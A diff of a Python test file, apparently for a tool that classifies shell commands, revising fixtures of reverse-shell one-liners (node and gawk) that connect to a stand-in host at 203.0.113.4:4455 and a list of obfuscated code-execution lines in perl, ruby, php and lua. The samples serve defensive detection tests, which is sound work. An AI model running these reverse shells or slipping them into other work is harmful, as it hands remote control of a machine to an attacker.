@@ -20,7 +20,8 @@ REVERSE = (
     """local f=io.popen(r);t:send(f:read("*a"));end'""",
     """node -e 'var n=require("net"),c=require("child_process"),s=new n.Socket();s.connect(4455,"203.0.113.4",function(){"""  # noqa: E501
     """var h=c.spawn("/bin/sh",["-i"]);s.pipe(h.stdin);h.stdout.pipe(s)})'""",
-    """node -e 'require("net").createConnection({host: "203.0.113.4", port: 4455}, s => require("child_process").exec("sh"))'""",  # noqa: E501
+    """node -e 'let s = require("net").createConnection({host: "203.0.113.4", port: 4455}, () => """
+    """require("child_process").spawn("sh", [], {stdio: [s, s, s]}))'""",
     """gawk 'BEGIN{s="/inet/tcp/0/203.0.113.4/4455";for(;s|&getline c;close(c))while(c|getline)print|&s;close(s)}'""",
 )
 COMMANDS = (
@@ -132,7 +133,6 @@ def test_a_harmless_one_liner_is_one_effect(play: Play, line: str) -> None:
         "perl -e 'eval $x'",
         "ruby -e 'Kernel.send(:system, \"id\")'",
         'php -r \'$f="sys"."tem"; $f("id");\'',
-        'node -e \'require("child_"+"process")["ex"+"ec"]("id")\'',
         'lua -e \'os["exe".."cute"]("id")\'',
     ],
 )
